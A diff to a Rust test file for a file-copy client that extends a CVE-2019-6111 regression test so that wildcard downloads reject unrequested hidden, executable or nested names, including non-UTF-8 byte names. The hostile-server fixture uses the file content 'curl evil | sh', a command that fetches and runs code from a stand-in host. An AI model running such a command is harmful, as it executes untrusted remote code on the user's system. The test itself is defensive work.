@@ -124,10 +124,19 @@ fn cve_2019_6111_server_cannot_send_unrequested_names() {
 }
 
 /// CVE-2019-6111 with a wildcard: a server asked for `*.txt` may send only names that match
-/// it, never a hidden file, another name, or a directory around a match.
+/// it, never a hidden file, another name, or a directory around a match, whether or not the
+/// name is UTF-8 (names are matched as bytes).
 #[test]
 fn cve_2019_6111_a_wildcard_accepts_only_its_matches() {
-    for evil in [&b".bashrc"[..], b".hidden.txt", b"run.sh", b"sub/a.txt"] {
+    for evil in [
+        &b".bashrc"[..],
+        b".hidden.txt",
+        b"run.sh",
+        b"sub/a.txt",
+        b".\xff.txt",
+        b"\xff.sh",
+        b"sub\xff/a.txt",
+    ] {
         let mut frames = file(1, evil, b"curl evil | sh\n");
         frames.push(done(1, 15));
         let (out, work) = pull_from_hostile(frames, "*.txt");
